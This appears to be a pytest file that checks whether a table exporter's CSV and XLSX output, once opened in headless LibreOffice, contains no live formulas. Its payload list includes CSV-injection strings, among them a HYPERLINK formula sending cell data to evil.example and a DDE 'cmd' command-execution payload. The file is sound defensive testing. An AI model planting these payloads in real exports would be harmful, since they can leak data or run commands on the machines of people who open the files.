"""What we export is opened in LibreOffice itself: no cell of it is a formula, whatever somebody put into a name.

It wants `soffice` on the path (Debian: `apt-get install --no-install-recommends libreoffice-calc`).
"""

from __future__ import annotations

import subprocess
from collections.abc import Sequence
from itertools import product
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest

from agent.adapters.tables import write_table
from agent.domain.cells import Heading, NewSheet

pytestmark = pytest.mark.heavy
TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
BEFORE = ("", "'", " ", "\t", "\r", "\n", "x;", 'x",', "x\t", "x\n", '"')
ACTIVE = (
    *("=1+1", "+1+1", "-1+1", "@SUM(1;2)", "＝1+1", "＋1", "－1", "＠SUM(1)"),  # noqa: RUF001 - signs that Excel takes too
    *('=HYPERLINK("https://evil.example/?"&A1;"x")', "=cmd|' /C calc'!A0", "=WEBSERVICE(A1)", "=DDE(1;2;3)", "{=1+1}"),
)
HOSTILE = [f"{before}{active}" for before, active in product(BEFORE, ACTIVE)]
LETTERS = 76  # UTF-8, as its filter calls it


def opened(path: Path, options: Sequence[str] = ()) -> ET.Element:
    """The file as LibreOffice understands it, in its own flat format; formulas are evaluated wherever it sees any."""
    home = f"-env:UserInstallation={(path.parent / 'office').as_uri()}"
    call = ["soffice", home, "--headless", *options, "--convert-to", "fods", "--outdir", str(path.parent), str(path)]
    subprocess.run(call, check=True, capture_output=True, timeout=240)
    return ET.parse(path.with_suffix(".fods")).getroot()  # noqa: S314 - what it has just written


def split_at(separator: str) -> list[str]:
    return [f"--infilter=CSV:{ord(separator)},34,{LETTERS},1,,0,false,true,false,false,false,0,true"]


def formulas(told: ET.Element) -> list[str]:
    return [one.attrib[f"{TABLE}formula"] for one in told.iter(f"{TABLE}table-cell") if f"{TABLE}formula" in one.attrib]


def words(told: ET.Element) -> str:
    return "\n".join("".join(one.itertext()) for one in told.iter(f"{TEXT}p"))


def exported(path: Path) -> Path:
    rows = tuple((one, "1731000000000000001", one) for one in HOSTILE)
    write_table(path, [NewSheet("Products", (Heading("Title"), Heading("Product"), Heading("Note")), rows)])
    return path


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_cell_of_an_exported_csv_is_a_formula_however_it_is_split(tmp_path: Path, separator: str) -> None:
    told = opened(exported(tmp_path / "out.csv"), split_at(separator))

    assert formulas(told) == []
    assert words(told).count("1+1") >= 2 * len(HOSTILE) // 3


def test_no_cell_of_an_exported_workbook_is_a_formula_and_every_id_keeps_its_digits(tmp_path: Path) -> None:
    told = opened(exported(tmp_path / "out.xlsx"))

    assert (formulas(told), words(told).count("1731000000000000001")) == ([], len(HOSTILE))


def test_the_same_cells_written_plainly_are_formulas(tmp_path: Path) -> None:
    """Else this file would prove nothing."""
    (tmp_path / "plain.csv").write_text(f"Title\n{ACTIVE[0]}", "utf-8")

    assert formulas(opened(tmp_path / "plain.csv", split_at(","))) == ["of:=1+1"]
